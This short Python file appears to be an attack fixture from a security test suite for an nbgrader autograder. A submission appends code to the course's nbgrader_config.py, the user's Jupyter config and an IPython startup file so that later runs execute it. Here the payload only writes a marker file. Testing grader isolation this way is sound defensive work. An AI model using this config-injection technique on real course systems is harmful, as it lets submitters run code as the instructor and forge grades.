"""Appends Python to the course's nbgrader_config.py and writes a user-level nbgrader config
and an IPython startup file, so later kernels and the instructor's next nbgrader commands run
the attacker's code (a -50 late penalty for a score of 50 of 10, say).

earned: 0
layer: course
"""
# %% extra
import os
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
payload = "\nimport pathlib; pathlib.Path('/tmp/cobotlab-attack-config-ran').write_text('ran')\n"
for path in (os.path.join(course, "nbgrader_config.py"),
             os.path.expanduser("~/.jupyter/nbgrader_config.py"),
             os.path.expanduser("~/.ipython/profile_default/startup/00-attack.py")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as f:
            f.write(payload)
    except OSError:
        pass
